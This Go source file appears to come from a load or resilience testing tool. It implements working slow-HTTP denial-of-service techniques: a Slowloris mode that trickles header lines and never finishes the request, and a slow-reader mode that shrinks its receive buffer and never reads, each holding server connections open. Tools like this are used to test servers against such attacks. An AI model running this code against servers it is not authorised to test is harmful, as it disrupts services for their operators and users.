package attack

import (
	"context"
	"errors"
	"net"
	"os"
	"time"
)

// slowReaderBuffer is the receive buffer a slow reader asks for. Linux
// doubles it and keeps at least 2304 bytes, so the server can park only a
// few KiB in it and its own send buffer fills up.
const slowReaderBuffer = 2048

// pollInterval is how often a slow reader, which never reads, asks its
// kernel whether the server has ended the connection; it is the resolution
// of a slow reader's hold time.
const pollInterval = 100 * time.Millisecond

// hold opens connection i and keeps it the way the kind does until the
// server ends it or the attack stops.
func (r *runner) hold(ctx context.Context, i int) {
	dialCtx, cancel := context.WithTimeout(ctx, r.cfg.Timeout)
	conn, err := r.dialer.DialContext(dialCtx, "tcp", r.target.addr)
	cancel()
	if err != nil {
		r.fail(ctx, err)
		return
	}
	opened := time.Now()
	r.opened()
	// Closing the connection unblocks whatever the holder waits in.
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	var cut bool
	switch r.cfg.Kind {
	case Slowloris:
		cut = r.trickle(ctx, conn)
	case SlowReader:
		cut = r.neverRead(ctx, conn)
	default:
		r.watch(ctx, conn, time.Time{}, &statusWatch{}) // returns once the connection has ended
		cut = !r.stopping(ctx)
	}
	stop()
	conn.Close()
	held := time.Since(opened)
	r.closed(held)
	if cut {
		r.cut.Add(1)
		r.cutNanos.Add(int64(held))
	}
	r.completed.Add(1)
}

// trickle sends a request line and then one header line every Trickle,
// never the blank line that would end the header. It reports whether the
// server ended the connection.
func (r *runner) trickle(ctx context.Context, conn net.Conn) bool {
	out := r.appendRequestLine(make([]byte, 0, 256), "GET", false)
	if _, err := conn.Write(out); err != nil {
		return !r.stopping(ctx)
	}
	var sw statusWatch
	next := time.Now()
	for {
		next = next.Add(r.cfg.Trickle)
		if !r.watch(ctx, conn, next, &sw) {
			return !r.stopping(ctx)
		}
		out = append(out[:0], "X-Rehearsal-"...)
		out = appendRandom(out, base32Lower, 6)
		out = append(out, ": "...)
		out = appendRandom(out, b64URL, 16)
		out = append(out, "\r\n"...)
		if _, err := conn.Write(out); err != nil {
			return !r.stopping(ctx)
		}
	}
}

// watch reads what the server sends until the deadline (zero: none),
// counting a status line if one comes. It returns true if the deadline
// passed with the connection still open, false once it has ended.
func (r *runner) watch(ctx context.Context, conn net.Conn, deadline time.Time, sw *statusWatch) bool {
	if err := conn.SetReadDeadline(deadline); err != nil {
		return false
	}
	for {
		n, err := conn.Read(sw.rd[:])
		r.feed(sw, sw.rd[:n])
		if err != nil {
			return errors.Is(err, os.ErrDeadlineExceeded) && !r.stopping(ctx)
		}
	}
}

// neverRead sends a complete GET and then waits, never reading, for the
// server to end the connection, which it learns from its kernel. It
// reports whether the server ended it.
func (r *runner) neverRead(ctx context.Context, conn net.Conn) bool {
	if tc, ok := conn.(*net.TCPConn); ok {
		// After connect the window already offered stays, but the
		// buffer stops growing: the server can park only a little here.
		tc.SetReadBuffer(slowReaderBuffer)
	}
	out := r.appendRequestLine(make([]byte, 0, 256), "GET", false)
	out = append(out, "\r\n"...)
	if _, err := conn.Write(out); err != nil {
		return !r.stopping(ctx)
	}
	tick := time.NewTicker(pollInterval)
	defer tick.Stop()
	var sw statusWatch
	var peek [len(sw.buf)]byte
	for {
		select {
		case <-ctx.Done():
			return false
		case <-tick.C:
		}
		ended, n := peerEnded(conn, peek[:])
		if !sw.done {
			sw.n = 0 // a peek sees the response's start again
			r.feed(&sw, peek[:n])
		}
		if ended {
			return !r.stopping(ctx)
		}
	}
}

// statusWatch collects a response's first bytes until they make a status
// line or cannot.
type statusWatch struct {
	buf  [64]byte
	n    int
	done bool
	rd   [256]byte // what watch reads into; kept here to allocate once
}

// feed adds b to the watch and counts the status once it is complete.
func (r *runner) feed(sw *statusWatch, b []byte) {
	if sw.done || len(b) == 0 {
		return
	}
	sw.n += copy(sw.buf[sw.n:], b)
	code, err := parseStatusLine(sw.buf[:sw.n])
	switch {
	case err == nil:
		r.countStatus(code)
		sw.done = true
	case err != errShort:
		sw.done = true // not HTTP; nothing to count
	}
}
